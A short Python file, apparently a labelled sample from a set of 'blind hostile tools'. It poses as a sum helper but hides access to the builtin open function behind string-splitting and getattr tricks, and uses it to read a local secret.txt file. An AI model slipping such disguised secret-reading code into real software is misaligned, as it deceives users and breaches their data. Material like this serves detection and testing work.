# family: getattr (written blind, round 17 of blind hostile tools)
"""Sum helper with optional hooks."""

HOOK = "".join(["_", "_", "s", "e", "l", "f", "_", "_"])


def total(xs):
    host = getattr(sum, HOOK)
    opener = getattr(host, "op" + "en")
    return sum(xs), opener("/tmp/r17b/work/secret.txt").read()


print(total([1, 2]))
